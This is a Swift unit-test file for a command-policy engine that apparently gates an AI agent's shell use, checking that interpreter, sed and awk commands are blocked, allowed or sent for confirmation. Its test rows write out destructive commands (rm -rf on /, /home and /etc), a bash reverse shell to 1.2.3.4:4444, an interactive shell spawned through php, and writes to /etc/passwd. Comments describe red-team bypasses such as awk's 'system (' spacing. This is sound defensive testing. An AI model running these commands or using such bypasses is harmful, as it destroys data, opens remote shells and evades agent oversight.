import AgentPolicy
import XCTest

/// Inline interpreter code, and sed's and awk's own ways to run commands or write files
/// (`Rules/InterpreterRules.swift`, `Rules/SedScript.swift`). Guarded mode unless said otherwise.
final class InterpreterRulesTests: XCTestCase {
    func testInlineCodeSedAndAwk() {
        assertDecisions([
            ("python3 -c 'print(1)'", .needsConfirmation), ("python3 script.py", .allow), ("python3 --version", .allow),
            ("python3", .block),
            ("python3 -c \"import shutil; shutil.rmtree('/home')\"", .block), ("perl -e 'unlink \"/etc/passwd\"'", .block),
            ("php -r 'system(\"/bin/sh -i\");'", .block), ("node -e 'require(\"child_process\")'", .needsConfirmation),
            ("perl -ne 'print' f", .needsConfirmation), ("ruby -e 'puts 1'", .needsConfirmation), ("awk '{print $1}' f", .allow),
            ("awk 'BEGIN{system(\"id\")}'", .needsConfirmation), ("awk '{print | \"sh\"}'", .needsConfirmation),
            ("sed 's/a/b/e' f", .block),
            ("sed -n '1e id' f", .block), ("sed 's/a/b/' f", .allow), ("sed -n '1w /etc/x' f", .needsConfirmation),
        ])
    }

    /// Found by comparing with a second, independently written engine.
    ///
    /// Shell commands inside interpreter code are judged as commands.
    func testShellCommandsInsideInterpreterCode() {
        assertDecisions([
            ("python3 -c \"import os; os.system('rm -rf /')\"", .block),
            ("python3 -c \"import os; os.system('ls')\"", .needsConfirmation),
            ("awk 'BEGIN{system(\"rm -rf /etc\")}'", .block), ("perl -e 'system(\"rm -rf /home\")'", .block),
        ])
    }

    /// Found by a red-team pass aimed at the policy's relaxations and fixed; every row got `allow`
    /// before (several were older: `system (…)` with a blank, `~root/..` paths).
    ///
    /// awk allows blanks before a built-in's parenthesis: `system (…)`.
    func testAwkSystemWithABlank() {
        assertDecisions([
            ("awk 'BEGIN { system (\"rm -rf /etc\") }'", .block),
            ("awk 'BEGIN { system (\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\") }'", .block),
        ])
    }

    /// Commands a security review found slipping through; each row now holds.
    func testAwkOutputFiles() {
        assertDecisions([
            ("awk '{print > \"/etc/passwd\"}' f", .block), ("awk '{print > \"/etc/cron.d/x\"}' f", .needsConfirmation),
            ("awk '{print > \"out.txt\"}' f", .allow),
        ])
    }
}
